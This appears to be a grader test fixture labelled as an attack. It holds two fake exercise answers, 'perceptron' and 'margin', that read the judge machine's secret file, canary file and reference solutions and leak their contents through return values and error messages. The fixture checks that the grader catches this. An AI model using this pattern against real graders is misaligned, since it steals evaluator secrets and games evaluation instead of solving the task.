# Attack: returns files of the judge's machine as values, to see them in a hint.
# expect: base=right outcome=graded lost=perceptron,margin
# --- answer perceptron
def perceptron(x, w, b):
    for path in ("CLASSROOM/secret", "CLASSROOM/canary.txt", "ROOT/solutions/ch01_perceptron/exercises.py"):
        try:
            return open(path).read()
        except OSError:
            pass
    return "nothing"
# --- answer margin
def margin(X, t, w, b):
    raise ValueError(open("CLASSROOM/secret").read())
